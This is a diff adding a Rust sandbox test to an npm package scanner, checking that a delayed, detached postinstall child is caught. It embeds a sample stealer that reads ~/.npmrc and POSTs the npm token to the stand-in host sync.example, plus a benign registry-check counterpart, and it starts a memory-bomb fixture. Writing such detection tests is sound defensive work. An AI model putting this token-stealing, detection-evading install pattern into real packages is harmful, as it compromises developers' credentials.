@@ -667,6 +667,81 @@ fn real_packages_show_the_hosts_they_download_from() {
 /// The same sandbox without root: through newuidmap/newgidmap and the user's
 /// subordinate ids. Runs when DSCA_UNPRIVILEGED_USER names an account that has them
 /// (`.ci/run` creates one); the test, as root, runs dsca as that user.
+/// A postinstall that starts `child.js` detached and returns at once, as installers of
+/// background helpers do.
+const DETACHING_INSTALL: &str = r#"const { spawn } = require('child_process');
+spawn(process.execPath, [require('path').join(__dirname, 'child.js')], { detached: true, stdio: 'ignore' }).unref();
+"#;
+
+/// The detached child of a stealer: waits for npm to finish, then sends the npm token.
+const DELAYED_STEALER_CHILD: &str = r#"setTimeout(() => {
+  let npmrc = '';
+  try { npmrc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); } catch (e) {}
+  const req = require('https').request({ hostname: 'sync.example', path: '/u', method: 'POST' }, (res) => res.resume());
+  req.on('error', () => {});
+  req.end(npmrc);
+}, 4000);
+"#;
+
+/// The detached child of an honest helper: asks the registry for its latest version and
+/// ends.
+const REGISTRY_CHECK_CHILD: &str = r#"require('https').get('https://registry.npmjs.org/bg-helper', (res) => res.resume()).on('error', () => {});
+"#;
+
+#[test]
+fn a_detached_child_that_waits_before_it_steals_is_watched_until_it_does() {
+    if !sandbox_tests_enabled(
+        "a_detached_child_that_waits_before_it_steals_is_watched_until_it_does",
+    ) {
+        return;
+    }
+    let registry = TestRegistry::start();
+    for (name, child) in [
+        ("bg-sync", DELAYED_STEALER_CHILD),
+        ("bg-helper", REGISTRY_CHECK_CHILD),
+    ] {
+        registry.publish(
+            PackageBuilder::new(name, "1.0.0")
+                .script("postinstall", "node install.js")
+                .file("install.js", DETACHING_INSTALL)
+                .file("child.js", child)
+                .file("index.js", "module.exports = 1;\n")
+                .build(),
+        );
+    }
+    let report = scan_dynamic(&registry, &[], "bg-sync@1.0.0");
+    let rules = rule_ids(&report);
+    for rule in ["DSCA1009", "DSCA1007"] {
+        assert!(rules.iter().any(|r| r == rule), "{rule} missing: {rules:?}");
+    }
+    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");
+    let run = &report["dynamic"];
+    let urls = texts(&phase_records(run, "/http"), "url");
+    assert!(
+        urls.iter().any(|u| u == "https://sync.example/u"),
+        "{urls:?}"
+    );
+    // Sent while the install phase was still watching its leftovers.
+    let install = phase_named(run, "install").unwrap_or_else(|| panic!("{run:#}"));
+    assert!(
+        list_texts(&install["http"], "url").contains(&"https://sync.example/u".to_string()),
+        "{install:#}"
+    );
+
+    // The near miss: a detached child that ends on its own within the grace period is
+    // no leftover, and asking the registry is no finding.
+    let report = scan_dynamic(&registry, &[], "bg-helper@1.0.0");
+    let rules = rule_ids(&report);
+    assert!(
+        !rules
+            .iter()
+            .any(|r| r.starts_with("DSCA10") && r.len() == 8),
+        "{rules:?}\n{:#}",
+        report["dynamic"]
+    );
+    assert_eq!(report["verdict"]["level"], "clean", "{rules:?}");
+}
+
 /// A memory bomb made of many processes, each under the per-process limit: six
 /// children of 100 MiB each, touched, held for two seconds.
 const MEMORY_BOMB_SCRIPT: &str = r#"const { spawn } = require('child_process');
